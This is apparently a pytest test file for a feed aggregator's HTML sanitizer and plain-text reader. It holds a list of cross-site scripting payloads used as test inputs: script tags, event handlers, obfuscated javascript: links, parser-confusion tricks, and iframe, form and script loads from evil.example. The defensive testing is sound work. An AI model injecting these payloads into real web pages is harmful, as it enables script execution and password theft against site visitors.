"""HTML: safe to show, and its plain text."""

import re
from html import escape, unescape
from pathlib import Path

import feedparser
import lxml.html
import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from aggregator.text.characters import scrub
from aggregator.text.html import ATTRIBUTES, TAGS, plain, sanitize, sanitize_and_read

BASE = "http://school.example/news/1.html"

#: Each tries to act where it is shown; among them the forms that normalizing after sanitizing,
#: another parser's view or a removed character would bring to life.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="a.png" OnError="alert(1)" width="300">',
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="java&#x200b;script:alert(1)">x</a>',
    '<a href="java\u202escript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<base href="javascript:/a/"><a href="alert(1)">x</a>',
    '<iframe src="http://evil.example/"></iframe>',
    '<object data="http://evil.example/"></object><embed src="http://evil.example/">',
    '<form action="http://evil.example/"><input name="password"><button>send</button></form>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<p style="background:url(javascript:alert(1))" onclick="alert(1)">x</p>',
    "<style>@import 'http://evil.example/x.css'</style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "＜script＞alert(1)＜/script＞",
    "﹤img src=x onerror=alert(1)﹥",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<xml:namespace prefix=x><x:script>alert(1)</x:script>",
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "<template><script>alert(1)</script></template>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<textarea></textarea><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "\u2028<b onmouseover=alert(1)>\ud800\x00x</b>",
]


def dangers(html: str) -> list[str]:
    """Return what in *html* could act, seen by a parser that is not the sanitizer's."""
    found = []
    for element in lxml.html.fromstring(f"<section>{html}</section>").iter("*"):
        tag = str(element.tag)
        if tag not in TAGS | {"section"}:
            found.append(tag)
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        for name, value in element.items():
            if name not in allowed:
                found.append(f"{tag} {name}")
            if name in ("href", "src") and not re.match("(https?://|mailto:)", value):
                found.append(value)
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_sanitized_html_acts(attack: str) -> None:
    clean = sanitize(f"<p>before {attack} after</p>", BASE)

    assert dangers(clean) == []
    assert "before" in clean


@settings(deadline=None)
@given(
    st.lists(st.sampled_from(ATTACKS) | st.text(max_size=5), max_size=5).map("".join),
    st.sampled_from(['<a title="', "<p>", "<!--", "<b><i", "&", "<table>", "</div>", "<img alt='"]),
)
def test_nothing_in_any_mixture_of_attacks_acts(attacks: str, before: str) -> None:
    assert dangers(sanitize(before + attacks, BASE)) == []


@settings(deadline=None)
@given(st.text(max_size=60))
def test_sanitizing_twice_changes_nothing_more(text: str) -> None:
    clean = sanitize(f"<p>{text}</p>", BASE)

    assert sanitize(clean, BASE) == clean


def test_the_corpus_of_attacks_leaves_nothing_that_acts(shared: Path) -> None:
    files = sorted((shared / "corpus/sanitize").glob("*.xml"))
    texts = [
        text for file in files for text in (*_fields(file), unescape(file.read_text("latin-1")))
    ]

    assert len(files) >= 300
    assert len(texts) > len(files)
    assert [text for text in texts if dangers(sanitize(text, BASE))] == []


def test_the_corpus_of_attacks_has_only_its_harmless_text(shared: Path) -> None:
    files = [
        file
        for file in sorted((shared / "corpus/sanitize").glob("*.xml"))
        if "== 'safe description'" in file.read_text("latin-1")
    ]

    assert len(files) >= 50
    for file in files:
        assert {plain(text) for text in _fields(file) if "safe" in text} == {"safe description"}


def _fields(file: Path) -> list[str]:
    """Return the HTML of a feed's descriptions as it was written."""
    found = feedparser.parse(file.read_bytes(), sanitize_html=False, resolve_relative_uris=False)
    return [
        str(value)
        for part in (found.feed, *found.entries)
        for name, value in part.items()
        if isinstance(value, str) and name in ("title", "subtitle", "summary", "rights", "info")
    ]


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>学び<strong>合う</strong></p>", "<p>学び<strong>合う</strong></p>"),
        ("a &amp; b &lt; c", "a &amp; b &lt; c"),
        ("<h2 class='x' id='y' lang='ja'>見出し</h2>", '<h2 lang="ja">見出し</h2>'),
        ("<font color=red>赤</font>", "赤"),
        ("<ruby>漢<rp>(</rp><rt>かん</rt></ruby>", "<ruby>漢<rp>(</rp><rt>かん</rt></ruby>"),
        ("<ul><li>one<li>two</ul>", "<ul><li>one</li><li>two</li></ul>"),
        ("<a href='?p=2' target=_top rel=me>x</a>",
         '<a href="http://school.example/news/1.html?p=2" rel="noopener noreferrer">x</a>'),
        ("<a href='//other.example/a b'>x</a>",
         '<a href="http://other.example/a%20b" rel="noopener noreferrer">x</a>'),
        ("<a href='http://[x'>x</a>", '<a rel="noopener noreferrer">x</a>'),
        ("<a href='mailto:a@school.example'>x</a>",
         '<a href="mailto:a@school.example" rel="noopener noreferrer">x</a>'),
        ("e\u0301&#x202e;\u200b＜お知らせ＞", "é＜お知らせ＞"),
        ("<b>&#x338;x</b>", "<b>\u0338x</b>"),
        ("<meta charset=euc-jp>日本語", "日本語"),
        ("  ", ""),
    ],
)  # fmt: skip
def test_sanitized_html_keeps_what_is_written(html: str, expected: str) -> None:
    assert sanitize(html, BASE) == expected


@pytest.mark.parametrize(
    "image",
    [
        '<img src="http://count.example/p.gif" width="1" height="1">',
        '<img src="http://count.example/p.gif" width=0>',
        '<img src="http://count.example/p.gif" height="2px">',
        '<IMG SRC="http://count.example/p.gif" STYLE="width:1px; height: 1px">',
        '<img src="http://count.example/p.gif" style="display: none">',
        '<img src="data:image/gif;base64,R0lGOD">',
        '<img src="http://[x">',
        '<img src=" ">',
        '<img alt="x">',
    ],
)
def test_images_that_show_nothing_go_and_the_text_around_them_stays(image: str) -> None:
    assert sanitize(f"<p>before {image}after</p>", BASE) == "<p>before after</p>"


@pytest.mark.parametrize(
    "size", ['width="3"', 'width="100%"', 'style="max-width:1px"', 'style="width:12px"', ""]
)
def test_images_that_show_something_stay(size: str) -> None:
    assert 'src="http://school.example/a.png"' in sanitize(f'<img src="/a.png" {size}>', BASE)


def test_elements_nested_without_end_take_no_time() -> None:
    """Nested 100,000 deep, the sanitizer alone takes a minute."""
    assert len(sanitize("<div>" * 100_000 + "x", BASE)) < 10_000
    assert "x" in sanitize("<div>" * 200 + "x", BASE)


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("学び", "学び"),
        ("", ""),
        ("<p>one</p><p>two</p>three<br>four", "one\ntwo\nthree\nfour"),
        ("<ul><li>one<li>two</ul>", "one\ntwo"),
        ("<table><tr><td>a<td>b<tr><th>c</table>", "a b\nc"),
        ("a <b>b</b>c", "a bc"),
        ("a\n  b", "a b"),
        ("<p>a\nb</p>", "a b"),
        ("Q&amp;A &#12354; &hellip; &copy", "Q&A あ … ©"),
        ("a&nbsp;&nbsp;b", "a b"),
        ("&amp;lt;", "&lt;"),
        ("3 < 5 & 7 > 2", "3 < 5 & 7 > 2"),
        ("<お知らせ> ＜重要＞", "<お知らせ> ＜重要＞"),
        ("大会　報告", "大会　報告"),
        ("a<script>x</script>b<style>y</style>c<!-- z -->d", "abcd"),
        ("<title>t</title>a<noscript>n</noscript>", "a"),
        ("<script><p>x</p></script><svg><text>y</text></svg>z", "z"),
        ("<ruby>漢字<rp>(</rp><rt>かんじ</rt><rp>)</rp></ruby>を読む", "漢字を読む"),
        ("x&#x202e;\u200by&#xD800;", "xy\ufffd"),
        ("</section>a<div>b", "a\nb"),
        ("\ud800a\x00b", "ab"),
    ],
)
def test_plain_text_is_what_a_reader_reads(html: str, expected: str) -> None:
    assert plain(html) == expected


@settings(deadline=None)
@given(st.text())
def test_plain_text_of_any_html_has_no_edges_and_nothing_hidden(html: str) -> None:
    text = plain(html)

    assert text == text.strip() == scrub(text)
    assert "\n\n" not in text
    assert not re.search("[ \t\xa0]{2}|\t", text)


@settings(deadline=None)
@given(st.text(st.sampled_from([*"ab<>&\"'学び"]), max_size=30))
def test_escaped_text_comes_back(text: str) -> None:
    assert plain(f"<b>{escape(text)}</b>") == text


#: What most summaries are made of, whole or not, and text that a parser might read otherwise.
LIGHT = [
    "<p>", "</p>", "<br>", "<br/>", "</br>", "<p/>", '<P ALIGN="left">', '<a href="x">', "</a>",
    "<a href=x>", "<b>", "</b>", "<strong>", "</strong>", "<i/>", '<img src="a" alt="t">', "</img>",
    "<span class='a'>", "</span>", "<p\n>", "</p >", "&amp;", "&lt;", "&nbsp;", "&ampx", "&#65;",
    "a", "学", " ", "\n", "\t", ">", '"', "\u0301", "\u200b", "\x00", "\u3000",
]  # fmt: skip


@settings(deadline=None, max_examples=300)
@given(st.lists(st.sampled_from(LIGHT), max_size=14).map("".join))
def test_light_html_reads_as_the_parser_reads_it(html: str) -> None:
    """An element of another kind behind it is enough for all of it to be parsed."""
    assert plain(html) == plain(f"{html}<wbr>")


@settings(deadline=None)
@given(st.lists(st.sampled_from([*LIGHT, *ATTACKS]) | st.text(max_size=5), max_size=8).map("".join))
def test_what_is_read_while_sanitizing_is_what_is_read_alone(html: str) -> None:
    assert sanitize_and_read(html, BASE) == (sanitize(html, BASE), plain(html))


@settings(deadline=None)
@given(st.text(st.sampled_from([*"ab >\"'学\n\t\xa0\u3000\u200b\u0301\x00"]), max_size=20))
def test_text_without_markup_is_sanitized_as_the_parser_would(text: str) -> None:
    assume(text.strip())

    assert sanitize(text, BASE) == sanitize(f"<blink>{text}</blink>", BASE)


def test_what_only_the_sanitizer_reads_as_an_image_leads_nowhere_relative() -> None:
    clean = sanitize('<svg><style><img src=x></style></svg><image src="/a.png">b', BASE)

    assert 'src="x"' not in clean
    assert dangers(clean) == []
